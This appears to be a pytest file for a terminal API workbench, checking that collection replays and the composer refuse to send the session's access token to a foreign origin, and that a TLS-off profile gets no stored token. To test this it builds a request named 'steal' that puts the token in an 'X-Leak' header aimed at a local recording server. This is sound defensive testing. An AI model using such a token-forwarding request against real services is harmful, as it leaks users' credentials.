"""Issue 11 in the TUI, with Pilot against the emulated cloud over real HTTP:

- a collection replayed in the collection browser (or a value opened in the composer) never sends the session's token to a
  foreign origin (a hostile loopback server the test starts): the row says why, naming the
  variable and the host, and the server receives nothing;
- a same-named profile with ``verify = false`` (from a profiles dir) gets no stored token
  (the login screen says why), and its login and main screens show TLS OFF in the header.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from textual.app import App, ComposeResult
from textual.widgets import DataTable, Footer, Static

from tests.tui.helpers import ComposerHost, until
from workbench.cli import main
from workbench.core import paths
from workbench.core.profiles import Profile, get_profile
from workbench.core.requests import RequestSpec
from workbench.core.session import Session
from workbench.tui.app import WorkbenchApp
from workbench.tui.screens.login import LoginScreen
from workbench.tui.screens.main import MainScreen
from workbench.tui.screens.profile_picker import ProfilePicker
from workbench.tui.widgets.collection_browser.collection_browser import CollectionBrowser
from workbench.tui.widgets.collection_browser.entries import RequestRef


@pytest.fixture
def foreign() -> Iterator[tuple[str, list[str]]]:
    """A loopback server on its own port that records every request it gets."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(f"{self.path}\n{self.headers}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


class Host(App[None]):
    def __init__(self, profile: Profile, session: Any) -> None:
        super().__init__()
        self.profile = profile
        self.session = session

    def compose(self) -> ComposeResult:
        yield CollectionBrowser(self.profile, self.session, id="browser")
        yield Footer()


async def test_replay_refuses_to_send_the_token_to_a_foreign_origin(demo_env, foreign) -> None:
    url, seen = foreign
    d = paths.data_dir() / "collections"
    d.mkdir(parents=True, exist_ok=True)
    (d / "pr.toml").write_text(
        f"""version = 1
[collection]
name = "from a pull request"
profile = "demo-thinger"

[variables]
tok = {{ session = "access_token" }}

[[requests]]
name = "steal"
url = "{url}/collect"
headers = [["X-Leak", "{{{{tok}}}}"]]
""",
        encoding="utf-8",
    )
    profile = get_profile("demo-thinger")
    session = Session(profile)
    session.login()
    token = session.tokens.access_token if session.tokens else ""
    app = Host(profile, session)
    try:
        async with app.run_test(size=(110, 32)) as pilot:
            browser = app.query_one(CollectionBrowser)
            await pilot.pause()
            node = await until(
                pilot,
                lambda: next(
                    (
                        child
                        for top in browser.sidebar.root.children
                        for child in top.children
                        if isinstance(child.data, RequestRef) and child.data.name == "steal"
                    ),
                    None,
                ),
                what="the request in the sidebar",
            )
            browser.sidebar.focus()
            browser.sidebar.move_cursor(node)
            await pilot.pause()
            await pilot.press("R")
            await until(
                pilot,
                lambda: browser.current_run is not None and len(browser.current_run.results) == 1,
                what="the replay",
            )
            assert browser.current_run is not None
            result = browser.current_run.results[0]
            assert not result.passed and result.error
            assert "'tok'" in result.error and url.removeprefix("http://") in result.error
            assert token not in result.error
            await until(
                pilot,
                lambda: "tok" in str(browser.query_one("#collections-detail", Static).content),
                what="the row's words",
            )
    finally:
        session.close()
    assert seen == []


async def test_verify_false_copy_gets_no_stored_token_and_shows_tls_off(
    demo_env, tmp_path: Path, capsys
) -> None:
    assert main(["login", "demo-thinger"]) == 0  # the built-in profile, verification on
    capsys.readouterr()
    shared = tmp_path / "shared"
    shared.mkdir()
    builtin = get_profile("demo-thinger")
    assert builtin.path is not None
    (shared / "demo-thinger.toml").write_text(
        builtin.path.read_text() + "\n[tls]\nverify = false\n"
    )
    app = WorkbenchApp(profiles_dir=shared)
    async with app.run_test(size=(120, 40)) as pilot:
        picker = await until(
            pilot, lambda: isinstance(app.screen, ProfilePicker) and app.screen, what="picker"
        )
        profile = picker.discovery.profiles["demo-thinger"]
        assert profile.verify_tls is False
        table = picker.query_one("#picker-table", DataTable)
        await until(pilot, lambda: table.row_count, what="the picker's rows")
        labels = [str(table.get_row_at(i)[0]) for i in range(table.row_count)]
        assert "demo-thinger TLS OFF" in labels
        app.open(profile)
        login = await until(
            pilot, lambda: isinstance(app.screen, LoginScreen) and app.screen, what="login"
        )
        await until(pilot, lambda: login.sub_title, what="the login screen's header")
        assert "TLS OFF" in login.sub_title
        # the stored token of the verifying profile is not used, and the screen says why
        await until(
            pilot,
            lambda: any("not used" in str(n.message) for n in app._notifications),
            what="the note saying why",
        )
        await until(
            pilot, lambda: app.focused is not None and app.focused.id == "login-go", what="prefill"
        )
        await pilot.press("ctrl+l")
        main_screen = await until(
            pilot,
            lambda: isinstance(app.screen, MainScreen) and app.screen.sub_title and app.screen,
            what="the main screen",
        )
        assert "TLS OFF" in main_screen.sub_title


async def test_composer_refuses_the_token_for_a_foreign_origin(demo_env, foreign) -> None:
    """A value captured by a replay (here: the session's token) opened in the composer with
    a foreign URL: not sent, and the words name the host."""
    url, seen = foreign
    profile = get_profile("demo-thinger")
    session = Session(profile)
    session.login()
    assert session.tokens is not None
    token = session.tokens.access_token
    app = ComposerHost(profile, session)
    try:
        async with app.run_test(size=(110, 32)) as pilot:
            composer = app.composer
            composer.variables = {"leaked": token}
            composer.load(RequestSpec(url=f"{url}/collect", headers=[("X-Leak", "{{leaked}}")]))
            await pilot.pause()
            await pilot.press("ctrl+s")
            await until(pilot, lambda: composer.response.state == "failed", what="refusal")
            view = composer.response
            assert "not sent" in view.status_text
            assert url.removeprefix("http://") in view.message_text
            assert "access token" in view.message_text and token not in view.message_text
            # the profile's own origin may have it
            composer.load(
                RequestSpec(
                    url=profile.urls["api"] + "/v1/users/demo/devices",
                    headers=[("X-Echo", "{{leaked}}")],
                )
            )
            await pilot.pause()
            await pilot.press("ctrl+s")
            await until(pilot, lambda: composer.response.state == "done", what="the answer")
    finally:
        session.close()
    assert seen == []
